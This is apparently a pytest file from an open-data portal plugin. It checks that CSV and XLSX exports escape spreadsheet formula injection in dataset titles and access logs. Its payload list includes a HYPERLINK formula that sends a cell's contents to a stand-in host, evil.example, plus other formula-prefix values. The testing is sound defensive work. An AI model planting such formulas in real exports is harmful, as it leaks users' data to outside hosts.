"""Issue 11 finding 4: no cell of a CSV or XLSX the portal writes is a live formula. A clerk
may give a published dataset any title (title edits skip review)."""
from __future__ import annotations

import csv
import io

import pytest


pytestmark = pytest.mark.usefixtures("with_plugins", "clean_db", "clean_index")

EVIL = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
PAYLOADS = [EVIL, "+1+2", "-3+4", "@SUM(A1)"]


@pytest.fixture
def evil_titles(published_dataset):
    return [published_dataset(name=f"evil-{i}", title=title) for i, title in enumerate(PAYLOADS)]


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _assert_neutral(cells):
    starts = ("=", "+", "-", "@", "\t", "\r")
    live = [c for c in cells if isinstance(c, str) and c.startswith(starts)]
    assert not live, live
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload  # the value stays readable


def test_open_list_csv_and_xlsx_cells_are_never_formulas(app, evil_titles, agency):
    from openpyxl import load_workbook
    for path in ("/opendata/list.csv", f"/organization/{agency['name']}/open-list.csv"):
        resp = app.get(path)
        assert resp.status_code == 200
        _assert_neutral(_csv_cells(resp.data))
    for path in ("/opendata/list.xlsx", f"/organization/{agency['name']}/open-list.xlsx"):
        resp = app.get(path)
        assert resp.status_code == 200
        wb = load_workbook(io.BytesIO(resp.data))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.value for c in cells if c.data_type == "f"]
        _assert_neutral([c.value for c in cells])


def test_access_log_csv_cells_are_never_formulas(app, evil_titles, sysadmin):
    from ckanext.lyg_opendata import audit
    for ds in evil_titles:
        audit.record_access(user=sysadmin["name"], package_id=ds["id"], resource_id=None,
                            channel="ui")
    resp = app.get("/opendata/access-log/export.csv",
                   headers={"Authorization": sysadmin["token"]})
    assert resp.status_code == 200, resp.status_code
    _assert_neutral(_csv_cells(resp.data))


def test_spreadsheet_helper_keeps_numbers_and_plain_text():
    from ckanext.lyg_opendata.spreadsheet import safe_row
    assert safe_row([-5, 3.5, None, "交通", "a=b", "=1", "\t=1", "\r=1"]) == [
        -5, 3.5, None, "交通", "a=b", "'=1", "'\t=1", "'\r=1"]
